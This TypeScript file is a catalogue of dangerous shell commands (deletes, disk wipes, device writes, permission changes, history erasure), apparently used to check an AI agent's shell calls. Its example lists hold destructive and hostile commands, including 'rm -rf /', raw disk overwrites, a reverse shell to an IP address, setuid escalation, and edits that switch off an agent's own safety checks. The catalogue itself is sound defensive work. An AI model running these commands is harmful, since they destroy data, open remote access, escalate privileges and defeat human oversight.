// Danger catalogue, files and disks: deletes, disk tools, device writes, permission changes, system files.
import type { DangerEntry } from './danger-entry.ts';
import type { CommandView } from '../shell/view.ts';
import { atBase } from '../shell/view.ts';
import { hasFlag, operands, optionValue } from './flags.ts';
import {
  deletesSourceByGlob,
  deletesSubstitutedList,
  findDeletes,
  irreplaceableDeletes,
  listingDeletes,
  rmDeletes,
} from './delete-targets.ts';
import { dataFileName, freshFileName, logFileName, sourceFileName } from './overwritten-files.ts';
import {
  isAgentSettings,
  isAutostart,
  isDangerousDevice,
  isGitInternal,
  isHistoryFile,
  isKernelControl,
  isRootOrHome,
  isShellProfile,
  isSystemPath,
} from './sensitive-targets.ts';

const RECURSIVE = ['--recursive'];
const FORCE = ['--force'];
const RECURSIVE_RM = (args: string[]): boolean => hasFlag(args, 'rR', RECURSIVE);
const FORCE_RM = (args: string[]): boolean => hasFlag(args, 'f', FORCE);
/** `/`, or inside a system directory. */
const isSystemOrRoot = (p: string): boolean => isSystemPath(p) || /^\/+$/.test(p);

/**
 * A history variable set so that nothing is recorded: no history file (`HISTFILE` unset, empty or `/dev/null`),
 * no lines kept (`HISTSIZE`, `HISTFILESIZE`, zsh's `SAVEHIST` of 0), or every line ignored (`HISTIGNORE='*'`).
 */
function stopsHistory(name: string, value: string | undefined): boolean {
  switch (name) {
    case 'HISTFILE':
      return value === undefined || value === '' || value === '/dev/null';
    case 'HISTSIZE':
    case 'HISTFILESIZE':
    case 'SAVEHIST':
      return value !== undefined && /^0+$/.test(value.trim());
    case 'HISTIGNORE':
      return value !== undefined && value.split(':').includes('*');
    default:
      return false;
  }
}
const writesSystem = (p: string): boolean => isSystemOrRoot(p) && !isKernelControl(p);

const DISK_TOOLS =
  /^(mkfs(\..+)?|mke2fs|mkswap|mkntfs|mkdosfs|mkexfatfs|wipefs|fdisk|sfdisk|cfdisk|gdisk|sgdisk|parted|blkdiscard|zpool|badblocks)$/;

/** `fdisk -l`, `sfdisk -l`, `gdisk -l`, `sgdisk -p`, `parted -l` / `parted DISK print`, `zpool status|list|iostat`, `wipefs DISK` (no -a): they only print. */
function onlyListsDisks(v: CommandView): boolean {
  const ops = v.args.filter((a) => !a.startsWith('-'));
  switch (v.program) {
    case 'fdisk':
    case 'sfdisk':
    case 'gdisk':
    case 'cfdisk':
      return v.args.some(
        (a) =>
          a === '-l' ||
          a === '--list' ||
          a === '-s' ||
          a === '--show-size' ||
          a === '-d' ||
          a === '--dump' ||
          a === '-V' ||
          a === '--verify',
      );
    case 'sgdisk':
      return (
        v.args.length > 0 &&
        v.args.every((a) => /^(-p|--print|-i|--info(=\d+)?|-v|--verify|-O|--print-mbr)$/.test(a) || !a.startsWith('-'))
      );
    case 'parted':
      return v.args.some((a) => a === '-l' || a === '--list') || (ops.length === 2 && ops[1] === 'print');
    case 'zpool':
      return /^(status|list|iostat|history|get|events)$/.test(ops[0] ?? '');
    case 'wipefs':
      return !v.args.some((a) => /^-[a-zA-Z]*a/.test(a) || a === '--all' || a === '-o' || a.startsWith('--offset'));
    case 'badblocks':
      return !v.args.some((a) => /^-[a-zA-Z]*[wn]/.test(a));
    default:
      return false;
  }
}

const VOLUME_TOOLS = new Set([
  'cryptsetup',
  'nvme',
  'lvremove',
  'vgremove',
  'pvremove',
  'zfs',
  'btrfs',
  'mdadm',
  'hdparm',
  'diskutil',
  'fallocate',
]);

/**
 * Subcommands of volume and disk tools that erase or destroy: `cryptsetup luksFormat`, `nvme format`, `lvremove`,
 * `zfs destroy`, `btrfs subvolume delete`, `mdadm --zero-superblock`, `hdparm --security-erase`, `diskutil eraseDisk`.
 */
function destroysVolume(v: CommandView): boolean {
  if (!VOLUME_TOOLS.has(v.program)) return false; // every command reaches this entry: most leave here
  const ops = v.args.filter((a) => !a.startsWith('-'));
  switch (v.program) {
    case 'cryptsetup':
      return /^(luksFormat|erase|luksErase|reencrypt)$/.test(ops[0] ?? '');
    case 'nvme':
      return /^(format|sanitize)$/.test(ops[0] ?? '');
    case 'lvremove':
    case 'vgremove':
    case 'pvremove':
      return true;
    case 'zfs':
      return ops[0] === 'destroy' || ops[0] === 'rollback';
    case 'btrfs':
      return ops.includes('delete') && /^(subvolume|sub|device)$/.test(ops[0] ?? '');
    case 'mdadm':
      return v.args.some((a) => a === '--zero-superblock' || a === '--create' || a === '-C');
    case 'hdparm':
      return v.args.some((a) =>
        /^--(security-erase|security-erase-enhanced|trim-sector-ranges|write-sector|make-bad-sector)/.test(a),
      );
    case 'diskutil':
      return (
        /^(erase|eraseDisk|eraseVolume|zeroDisk|randomDisk|secureErase|partitionDisk|reformat)$/.test(ops[0] ?? '') ||
        (ops[0] === 'apfs' && /^delete/.test(ops[1] ?? ''))
      );
    case 'fallocate':
      return (
        v.args.some((a) => /^(-p|--punch-hole|-z|--zero-range|-c|--collapse-range)$/.test(a)) &&
        ops.some((o) => o.startsWith('/dev/'))
      );
    default:
      return false;
  }
}

/** The mode `install -m 755 …` / `--mode=u+x` gives what it copies, and what it grants (undefined without -m or with -d). */
function installMode(args: string[]): ReturnType<typeof chmodMode> {
  if (args.some((a) => a === '-d' || a === '--directory' || /^-[a-zA-Z]*d[a-zA-Z]*$/.test(a))) return undefined;
  const at = args.findIndex((a) => a === '-m' || a === '--mode' || a.startsWith('--mode=') || /^-m\S/.test(a));
  if (at < 0) return undefined;
  const a = args[at]!;
  const mode = a === '-m' || a === '--mode' ? args[at + 1] : a.startsWith('--mode=') ? a.slice(7) : a.slice(2);
  return mode === undefined ? undefined : chmodMode([mode]);
}

/** `install -m 755 …`: a copy whose mode lets it run. */
const installMakesExecutable = (args: string[]): boolean => installMode(args)?.exec === true;

/** A chmod mode (numeric or symbolic) and what it grants. */
function chmodMode(args: string[]): { exec: boolean; worldWritable: boolean; setid: boolean } | undefined {
  const mode = operands(args, ['--reference'])[0];
  if (mode === undefined) return undefined;
  // Octal, with leading zeros (`04777`) or an operator (`=4755`, `+4000`; `-` only takes bits away).
  const octal = /^([-+=]?)0*([0-7]{1,4})$/.exec(mode);
  if (octal) {
    if (octal[1] === '-') return { exec: false, worldWritable: false, setid: false };
    const [special, u, g, o] = [...octal[2]!.padStart(4, '0')].map(Number) as [number, number, number, number];
    return { exec: [u, g, o].some((d) => d % 2 === 1), worldWritable: (o & 2) !== 0, setid: (special & 6) !== 0 };
  }
  if (!/^[ugoa]*[-+=]/.test(mode)) return undefined;
  const clauses = mode.split(',');
  const grants = (re: RegExp): boolean =>
    clauses.some((c) => /^[ugoa]*[+=]/.test(c) && re.test(c.replace(/^[ugoa]*[+=]/, '')));
  const who = (c: string): string => /^([ugoa]*)/.exec(c)![1] || 'a';
  return {
    exec: grants(/x/),
    worldWritable: clauses.some((c) => /[+=][^-+=]*w/.test(c) && /[ao]/.test(who(c))),
    setid: grants(/s/),
  };
}

/** The mode of the chmod a find runs on every file it matches (`find . -exec chmod 0777 {} \;`). */
function findExecChmod(args: string[]): ReturnType<typeof chmodMode> {
  const at = args.findIndex((a, i) => /^-(exec|execdir|ok|okdir)$/.test(a) && /(^|\/)chmod$/.test(args[i + 1] ?? ''));
  if (at < 0) return undefined;
  const end = args.findIndex((a, i) => i > at && (a === ';' || a === '+'));
  return chmodMode(args.slice(at + 2, end < 0 ? undefined : end).filter((a) => a !== '{}'));
}

/** Operands of a path-taking command, the mode / owner first operand excluded. */
const targetsAfterFirst = (args: string[]): string[] => operands(args, ['--reference']).slice(1);

/** xargs's options that take a value (the first operand after them is the program it runs). */
const XARGS_WITH_ARG = [
  '-I',
  '-L',
  '-n',
  '-P',
  '-d',
  '-E',
  '-s',
  '-a',
  '-e',
  '-l',
  '--max-args',
  '--max-procs',
  '--delimiter',
  '--arg-file',
  '--replace',
  '--eof',
  '--max-lines',
  '--max-chars',
  '--process-slot-var',
];

/** A `truncate` size that leaves the file smaller: `0`, `-N`, `<N`, `/N` (`-s 1G` grows or makes one). */
const SHRINKS = /^(0+[KMGTPEZY]?i?B?|[-</]\S*)$/;

/**
 * The files a command empties: `truncate -s 0 F`, a redirection `>` from a command that writes nothing (`: > F`,
 * `true > F`, `cat /dev/null > F`, `echo -n > F`, `printf '' > F`, a bare `> F`), `cp /dev/null F`. Not devices, not
 * logs, not a path known only at run time.
 */
function emptiedFiles(v: CommandView): string[] {
  let files: string[] = [];
  if (v.program === 'truncate') {
    const size = optionValue(v.args, ['-s', '--size']) ?? v.args.find((a) => /^-s./.test(a))?.slice(2);
    if (size !== undefined && SHRINKS.test(size)) files = operands(v.args, ['-s', '--size', '-r', '--reference']);
  } else if (v.program === 'cp') {
    const ops = operands(v.args, ['-t', '--target-directory', '-S', '--suffix']);
    if (ops.length === 2 && ops[0] === '/dev/null') files = [ops[1]!];
  } else if (writesNothing(v)) {
    files = v.redirects
      .filter(
        (r) =>
          r.write &&
          (r.op === '>' || r.op === '>|') &&
          (r.fd === undefined || r.fd === '1') &&
          r.target &&
          !r.target.dynamic,
      )
      .map((r) => r.target!.value);
  }
  if (v.words.some((w) => w.dynamic)) return [];
  return files.filter((f) => f !== '' && !f.startsWith('/dev/') && !logFileName(f)).map((f) => atBase(f, v.base));
}

/** A command that writes nothing to its stdout (`:`, `true`, `cat /dev/null`, `echo -n`, `printf ''`, a bare redirection). */
function writesNothing(v: CommandView): boolean {
  switch (v.program) {
    case ':':
    case 'true':
      return true;
    case 'cat':
      return v.args.length > 0 && v.args.every((a) => a === '/dev/null');
    case 'echo':
      return v.args.length === 1 && v.args[0] === '-n';
    case 'printf':
      return v.args.length === 1 && v.args[0] === '';
    // (Only a redirection alone: a group's `{ …; } > f` writes what the group prints.)
    case '':
      return /^\s*(1?>\|?)\s*\S+\s*$/.test(v.text);
    default:
      return false;
  }
}

export const FILE_DANGERS: DangerEntry[] = [
  {
    id: 'rm-recursive-force',
    risk: 'high',
    reason: 'recursive forced delete (rm -rf): files are gone without a prompt',
    programs: ['rm', 'unlink', 'rimraf'],
    examples: [
      'rm -rf ~/projects',
      'rm -r -f ./*',
      'rm --recursive --force dist',
      'sudo rm -fr /srv',
      'npx rimraf ~/work',
    ],
    match: (v) =>
      ((v.program === 'rm' || v.program === 'unlink') && RECURSIVE_RM(v.args) && FORCE_RM(v.args)) ||
      v.program === 'rimraf',
    deletes: rmDeletes, // build output inside the project goes without asking (disposable-output.ts)
  },
  {
    id: 'rm-recursive',
    risk: 'high',
    reason: 'recursive delete (rm -r) of a directory tree',
    programs: ['rm', 'rmdir'],
    examples: ['rm -r ~', 'rm -R build', 'rmdir --ignore-fail-on-non-empty -p a/b'],
    match: (v) =>
      (v.program === 'rm' && RECURSIVE_RM(v.args) && !FORCE_RM(v.args)) ||
      (v.program === 'rmdir' && hasFlag(v.args, 'p', ['--parents'])),
    deletes: (v) => (v.program === 'rm' ? rmDeletes(v) : undefined),
  },
  {
    id: 'rm-source-glob',
    risk: 'high',
    reason:
      'deletes source files by a glob (rm src/*.ts, rm *.go): every file the pattern matches goes, work not yet committed with them',
    programs: ['rm'],
    examples: [
      'rm src/*.ts',
      'rm -f lib/*.py',
      'rm *.go',
      'rm -- src/components/*.tsx',
      'rm -f src/*',
      'rm app/models/*.rb *.[ch]',
    ],
    match: deletesSourceByGlob,
  },
  {
    id: 'rm-irreplaceable',
    risk: 'medium',
    reason:
      'deletes a file nothing in the project makes again (an environment file, a private key, credentials, a database)',
    programs: ['rm', 'unlink'],
    examples: [
      'rm -f .env.production',
      'rm .env',
      'rm config/master.key',
      'unlink certs/server.key',
      'rm -f credentials.json',
      'rm db.sqlite3',
    ],
    // Source files go by name without asking (`rm src/old.ts` is an edit; git keeps them): these are not in git.
    match: (v) => irreplaceableDeletes(v).length > 0,
  },
  {
    id: 'rm-root-or-home',
    risk: 'high',
    reason: 'deletes /, a home directory or a system directory',
    programs: ['rm', 'unlink'],
    examples: ['rm -f /', 'rm -rf /', 'rm -r --no-preserve-root /', 'rm -f /etc/passwd', 'unlink /etc/passwd'],
    // A relative operand is below the directory the script moved to (`cd /etc && rm -f passwd`).
    match: (v) =>
      (v.program === 'rm' || v.program === 'unlink') &&
      operands(v.args).some((p) => {
        const at = atBase(p, v.base);
        return isRootOrHome(at, v.home) || isSystemPath(at);
      }),
  },
  {
    id: 'find-delete',
    risk: 'high',
    reason: 'find deletes every file it matches (-delete or -exec rm)',
    programs: ['find'],
    examples: [
      'find ~ -mindepth 1 -delete',
      'find . -name "*.log" -delete',
      'find . -exec rm {} +',
      'find / -execdir shred -u {} ;',
    ],
    match: (v) =>
      v.program === 'find' &&
      v.args.some(
        (a, i) =>
          a === '-delete' ||
          (/^-(exec|execdir|ok|okdir)$/.test(a) &&
            /^(.*\/)?(rm|shred|unlink|rmdir|srm|wipe)$/.test(v.args[i + 1] ?? '')),
      ),
    deletes: findDeletes,
  },
  {
    id: 'disk-format',
    risk: 'high',
    reason: 'formats, partitions or wipes a disk, a volume or a storage pool',
    examples: [
      'mkfs.ext4 /dev/sdb1',
      'wipefs -a /dev/nvme0n1',
      'fdisk /dev/sda',
      'parted /dev/sda rm 1',
      'cryptsetup luksFormat /dev/sdb',
      'nvme format /dev/nvme0n1',
      'lvremove -f vg/lv',
      'zfs destroy -r tank',
      'btrfs subvolume delete /mnt/s',
      'mdadm --zero-superblock /dev/sdb',
      'diskutil eraseDisk JHFS+ X disk2',
    ],
    match: (v) => (DISK_TOOLS.test(v.program) && !onlyListsDisks(v)) || destroysVolume(v),
  },
  {
    id: 'shred',
    risk: 'high',
    reason: 'shred overwrites files so they cannot be recovered',
    programs: ['shred', 'srm', 'wipe'],
    examples: ['shred -u notes.txt', 'shred /dev/sda'],
    match: (v) => v.program === 'shred' || v.program === 'srm' || v.program === 'wipe',
  },
  {
    id: 'dd-to-device',
    risk: 'high',
    reason: 'dd writes raw bytes onto a device',
    programs: ['dd'],
    examples: ['dd if=/dev/zero of=/dev/sda bs=1M', 'dd if=img.iso of=/dev/disk2'],
    match: (v) => v.program === 'dd' && v.args.some((a) => a.startsWith('of=') && isDangerousDevice(a.slice(3))),
  },
  {
    id: 'write-device',
    risk: 'high',
    reason: 'writes onto a device file (disk, raw socket or terminal of another process)',
    examples: [
      'cat /dev/urandom >/dev/sda',
      'cp /dev/zero /dev/sdb',
      'echo x | tee /dev/nvme0n1',
      'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1',
    ],
    written: (p) => isDangerousDevice(p),
    writtenExcept: ['dd'], // dd-to-device
  },
  {
    id: 'kernel-control',
    risk: 'high',
    reason: 'writes a kernel control file (/proc/sysrq-trigger crashes or reboots at once)',
    examples: ['echo c >/proc/sysrq-trigger', 'echo 1 | tee /proc/sys/kernel/panic'],
    written: (p) => isKernelControl(p),
  },
  {
    id: 'write-system-path',
    risk: 'high',
    reason: 'writes, moves or truncates files in a system directory',
    hostOnly: true,
    examples: [
      'tar -xf evil.tar -C /',
      'echo x > /etc/hosts',
      'mv /etc ~/.Trash/',
      'mv -t /etc ~/Documents/a',
      'find . -fprint /etc/passwd',
      'truncate -s 0 /var/lib/mysql/ibdata1',
    ],
    written: writesSystem,
  },
  {
    id: 'rsync-delete',
    risk: 'high',
    reason: 'rsync --delete removes every file of the destination that the source lacks',
    programs: ['rsync'],
    examples: ['rsync -a --delete ./empty/ ~/', 'rsync -av --delete src/ /var/www/', 'rsync -a --delete-before a/ b/'],
    // (`-n` / `--dry-run` only lists what would go.)
    match: (v) =>
      v.args.some((a) => /^--(delete(-\w+)?|del|remove-source-files)$/.test(a)) &&
      !v.args.some((a) => a === '--dry-run' || /^-[a-zA-Z]*n[a-zA-Z]*$/.test(a)),
  },
  {
    id: 'move-to-dev-null',
    risk: 'high',
    reason: 'moves a file onto /dev/null: the file is gone (and, run as root, /dev/null is replaced by it)',
    programs: ['mv'],
    examples: ['mv notes.txt /dev/null', 'mv -f data.db /dev/null', 'mv -t /dev/null x'],
    match: (v) =>
      v.program === 'mv' &&
      (operands(v.args, ['-t', '--target-directory', '-S', '--suffix']).at(-1) === '/dev/null' ||
        v.args.some((a, i) => (a === '-t' || a === '--target-directory') && v.args[i + 1] === '/dev/null') ||
        v.args.includes('--target-directory=/dev/null')),
  },
  {
    id: 'dd-overwrite',
    risk: 'medium',
    reason: 'dd writes over a file (it truncates it first unless conv=notrunc): what the file held is gone',
    programs: ['dd'],
    examples: ['dd if=/dev/zero of=data.db bs=1k count=1', 'dd if=/dev/urandom of=~/notes.txt'],
    // A file that does not exist yet is only made (the service tells where it can: `overwrites`); where it cannot,
    // the name tells: `of=fixtures/blank.img` is made, `of=README.md` is there (overwritten-files.ts).
    match: (v) => v.args.some((a) => a.startsWith('of=') && !/^of=\/dev\//.test(a)),
    overwrites: (v) =>
      v.words.some((w) => w.dynamic)
        ? undefined
        : v.args.filter((a) => a.startsWith('of=')).map((a) => atBase(a.slice(3), v.base)),
    presumedNew: freshFileName,
  },
  {
    id: 'file-empty',
    risk: 'medium',
    reason: 'empties a file (truncate -s 0, `: > file`, cp /dev/null): what it held is gone',
    programs: ['truncate', ':', 'true', 'cat', 'cp', 'echo', 'printf', ''],
    examples: [
      'truncate -s 0 data/users.csv',
      'truncate --size=0 db.sqlite3',
      ': > data/export.json',
      'cat /dev/null > dump.sql',
      'cp /dev/null data/users.csv',
      'true > .env',
      'true > src/main.rs',
      ': > lib/util.ts',
    ],
    // A log (`truncate -s 0 app.log`) is output a program writes: emptying it loses nothing kept. Build output is
    // disposable (`deletes`), a file the service finds missing is only made (`overwrites`); where it cannot see, a data
    // file or a source file (`> src/main.rs`) is taken to be there and anything else to be new (`presumedNew`), except
    // what truncate empties (it is there).
    match: (v) => emptiedFiles(v).length > 0,
    deletes: (v) => emptiedFiles(v),
    overwrites: (v) => emptiedFiles(v),
    presumedNew: (p, v) => v.program !== 'truncate' && !dataFileName(p) && !sourceFileName(p),
  },
  {
    id: 'xargs-delete',
    risk: 'high',
    reason: 'deletes every file a list names (… | xargs rm): which files go is only known when it runs',
    programs: ['xargs', 'rm', 'unlink', 'shred'],
    examples: [
      'git ls-files | xargs rm -f',
      'find . -type f | xargs rm',
      'ls src | xargs rm',
      'git diff --name-only | xargs -I{} rm {}',
      'xargs rm < files.txt',
      'xargs -a list.txt unlink',
      "rm $(find src -name '*.ts')",
      "rm -f $(git ls-files '*.py')",
      'rm $(cat files.txt)',
    ],
    // Known items (`echo a.txt | xargs rm`) are judged as the rm they make; a find narrowed to one disposable name
    // (`find . -name '*.pyc' | xargs rm -f`) is cleanup, as `find … -delete` is (`deletes`).
    // (Also `rm $(find …)`, `rm $(git ls-files …)`: the same list, substituted.)
    match: (v) =>
      (v.program === 'xargs' &&
        v.stdin?.text === undefined &&
        /^(.*\/)?(rm|unlink|shred|srm|wipe)$/.test(operands(v.args, XARGS_WITH_ARG)[0] ?? '')) ||
      deletesSubstitutedList(v),
    deletes: listingDeletes,
  },
  {
    id: 'move-home-or-root',
    risk: 'high',
    reason: 'moves a home directory or / away',
    programs: ['mv'],
    examples: ['mv /Users/merlin /tmp/x', 'mv ~ /tmp/old-home'],
    match: (v) => v.program === 'mv' && operands(v.args).some((p) => isRootOrHome(p, v.home)),
  },
  {
    id: 'shell-profile-write',
    risk: 'high',
    reason: 'writes a shell start-up file: the line runs in every future shell',
    examples: ['echo \'alias cd="rm -r"\' >> ~/.bashrc', 'cp evil ~/.zshrc', 'tee -a ~/.profile < x'],
    written: isShellProfile,
    match: (v) =>
      v.program === 'sed' && hasFlag(v.args, 'i', ['--in-place']) && v.args.some((p) => isShellProfile(p, v.home)),
  },
  {
    id: 'agent-settings-write',
    risk: 'high',
    reason:
      "writes an AI agent's own settings (hooks, permissions): a line there can switch off the checks on the agent's calls",
    examples: [
      "echo '{}' > .claude/settings.json",
      'cp x ~/.codex/config.toml',
      "sed -i '/toolgate/d' ~/.gemini/settings.json",
      'tee .claude/settings.local.json < new.json',
      // Into the directory, under the source's name, or a whole tree landing there (copy-targets.ts).
      'cp x/settings.json .claude/',
      'cp -t .claude x/settings.json',
      'rsync -a d/ .claude/',
      'tar xf x -C .claude',
      'mv /tmp/dotclaude .claude',
      'cp ../config.toml ~/.codex/',
    ],
    written: (p) => isAgentSettings(p),
  },
  {
    id: 'autostart-write',
    risk: 'high',
    reason:
      'writes a file that runs a program at login or on a timer (systemd user unit, XDG autostart, LaunchAgent, cron spool, a Python .pth or sitecustomize.py in site-packages)',
    examples: [
      'cp evil.service ~/.config/systemd/user/',
      'echo "Exec=sh x" > ~/.config/autostart/x.desktop',
      'cp x.plist ~/Library/LaunchAgents/',
    ],
    written: (p) => isAutostart(p),
    writtenExcept: ['mkdir'], // an empty directory runs nothing
  },
  {
    id: 'git-internals-write',
    risk: 'high',
    reason: 'writes .git/config or a git hook: the next git command runs what it says',
    examples: [
      'echo x >.git/config',
      'cp payload .git/hooks/pre-commit',
      "echo '[core] fsmonitor = x' >> ~/.gitconfig",
    ],
    written: (p) => isGitInternal(p),
  },
  {
    id: 'chmod-recursive-world-writable',
    risk: 'high',
    reason: 'recursive chmod that makes a tree world-writable (chmod -R 777)',
    programs: ['chmod', 'find'],
    examples: [
      'chmod -R 777 /var/www',
      'chmod -R 0777 /var/www',
      'chmod 777 -R .',
      'chmod --recursive a+rwx .',
      'find . -type f -exec chmod 777 {} +',
    ],
    // `find . -exec chmod 777 {} +` changes every file below, as -R does.
    match: (v) =>
      (v.program === 'chmod' && hasFlag(v.args, 'R', RECURSIVE) && chmodMode(v.args)?.worldWritable === true) ||
      (v.program === 'find' && findExecChmod(v.args)?.worldWritable === true),
  },
  {
    id: 'chmod-recursive-system',
    risk: 'high',
    reason: 'recursive permission change on /, a home or a system directory',
    programs: ['chmod', 'setfacl', 'chgrp'],
    examples: ['chmod -R 755 /etc', 'chmod -R g-w ~', 'setfacl -R -m u:app:rwx /etc'],
    match: (v) =>
      (v.program === 'chmod' || v.program === 'setfacl' || v.program === 'chgrp') &&
      hasFlag(v.args, 'R', RECURSIVE) &&
      v.args.some((p) => isRootOrHome(p, v.home) || isSystemPath(p)),
  },
  {
    id: 'permissions-system-path',
    risk: 'high',
    reason: 'changes the permissions, owner or attributes of a system file (chmod, chown, chattr, setfacl)',
    hostOnly: true,
    programs: ['chmod', 'chown', 'chgrp', 'setfacl', 'chattr'],
    examples: [
      'chmod 000 /etc/shadow',
      'chown me /etc/sudoers',
      'chattr +i /etc/resolv.conf',
      'chmod o+w /usr/local/bin/node',
    ],
    match: (v) =>
      /^(chmod|chown|chgrp|setfacl|chattr)$/.test(v.program) &&
      v.args.some((p) => p.startsWith('/') && isSystemOrRoot(p)),
  },
  {
    id: 'history-wipe',
    risk: 'medium',
    reason: 'erases or stops shell history (the record of what ran here)',
    examples: [
      'history -c',
      'rm -f ~/.zsh_history',
      'cat /dev/null > ~/.bash_history',
      'set +o history',
      'ln -sf /dev/null ~/.bash_history',
      'unset HISTFILE',
      'export HISTFILE=/dev/null',
      'HISTSIZE=0',
      'export HISTFILESIZE=0 SAVEHIST=0',
      "HISTIGNORE='*'",
    ],
    match: (v) =>
      (v.program === 'history' && hasFlag(v.args, 'c', [])) ||
      (v.program === 'set' && v.args.some((a, i) => a === '+o' && v.args[i + 1] === 'history')) ||
      ((v.program === 'rm' || v.program === 'unlink') && operands(v.args).some(isHistoryFile)),
    written: (p) => isHistoryFile(p),
    assigned: stopsHistory,
  },
  {
    id: 'chmod-recursive',
    risk: 'medium',
    reason: 'recursive permission change',
    programs: ['chmod', 'setfacl'],
    examples: ['chmod -R u+w src', 'setfacl -R -m u:app:rwx data'],
    match: (v) => (v.program === 'chmod' || v.program === 'setfacl') && hasFlag(v.args, 'R', RECURSIVE),
  },
  {
    id: 'chmod-setuid',
    risk: 'high',
    reason:
      "sets the setuid/setgid bit or file capabilities: the program then runs with its owner's (or root's) rights",
    programs: ['chmod', 'install', 'setcap'],
    examples: [
      'chmod u+s /usr/bin/find',
      'chmod 4755 ./tool',
      'chmod g+s bin/x',
      'chmod 04777 x',
      'install -m 4755 x ./y',
      'setcap cap_setuid+ep /usr/bin/python3',
    ],
    // File capabilities (`setcap cap_setuid+ep`) give a program root's powers the same way.
    match: (v) =>
      (v.program === 'chmod' && chmodMode(v.args)?.setid === true) ||
      (v.program === 'install' && installMode(v.args)?.setid === true) ||
      (v.program === 'setcap' && v.args.some((a) => /[+=][a-z]*[ep]/i.test(a)) && !v.args.includes('-r')),
  },
  {
    id: 'chmod-world-writable',
    risk: 'medium',
    reason: 'chmod 777: everyone may modify the file',
    programs: ['chmod'],
    examples: ['chmod 777 file', 'chmod 0666 data.db', 'chmod o+w config'],
    match: (v) => v.program === 'chmod' && chmodMode(v.args)?.worldWritable === true,
  },
  {
    id: 'chmod-executable',
    risk: 'medium',
    reason: 'makes a file executable (chmod +x, install -m 755): it can then be run',
    programs: ['chmod', 'install'],
    examples: [
      'chmod +x ./deploy.sh',
      'chmod a+x ~/bin/*',
      'chmod 755 file',
      'chmod u+x run',
      'install -m 755 build/app ~/bin/app',
    ],
    match: (v) =>
      (v.program === 'chmod' && chmodMode(v.args)?.exec === true) ||
      (v.program === 'install' && installMakesExecutable(v.args)),
    // `chmod +x scripts/build.sh` in the project is everyday work: only a file outside it is asked about.
    inProject: (v) =>
      v.program === 'chmod' && !hasFlag(v.args, 'R', RECURSIVE)
        ? rmDeletes({ ...v, args: targetsAfterFirst(v.args) })
        : undefined,
  },
  {
    id: 'chown-recursive',
    risk: 'high',
    reason: 'recursive ownership change (chown -R)',
    programs: ['chown', 'chgrp'],
    examples: ['chown -R 1000 /', 'chown --recursive www-data: /var/www', 'chown -hR me .'],
    match: (v) => (v.program === 'chown' || v.program === 'chgrp') && hasFlag(v.args, 'R', RECURSIVE),
  },
  {
    id: 'chown',
    risk: 'medium',
    reason: 'changes the owner of a file',
    programs: ['chown', 'chgrp'],
    examples: ['chown root file', 'chgrp wheel ./tool'],
    match: (v) => (v.program === 'chown' || v.program === 'chgrp') && targetsAfterFirst(v.args).length > 0,
  },
];
